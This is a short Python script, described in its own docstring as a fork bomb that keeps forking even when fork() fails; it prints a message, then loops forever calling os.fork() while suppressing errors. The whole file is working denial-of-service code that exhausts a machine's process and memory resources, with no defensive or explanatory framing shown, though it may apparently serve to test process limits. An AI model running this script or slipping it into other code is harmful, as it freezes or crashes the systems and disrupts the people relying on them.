"""A fork bomb that does not give up when fork() fails."""

import contextlib
import os

print("bomb: forking", flush=True)
while True:
    with contextlib.suppress(OSError):
        os.fork()
